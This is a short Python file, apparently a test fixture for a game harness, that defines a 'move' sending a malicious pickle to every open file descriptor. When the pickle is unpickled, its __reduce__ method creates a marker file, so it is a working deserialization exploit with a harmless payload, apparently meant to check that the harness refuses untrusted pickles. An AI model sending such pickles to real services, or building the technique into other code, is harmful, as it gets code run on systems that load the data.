"""A move that sends the bot a pickle which runs a program, in place of an answer."""

import os
import pickle
import struct
from pathlib import Path

from spoiled import spoiled

MARK = Path(__file__).with_name("target.txt")


class Nasty:
    """A value that writes a file where it is unpickled."""

    def __reduce__(self):
        """Return what to call."""
        return Path.touch, (Path(MARK.read_text()),)


def act() -> None:
    """Write the pickle into everything that is open."""
    data = pickle.dumps(Nasty())
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("!i", len(data)) + data)
        except OSError:
            continue


GAME = spoiled(act)
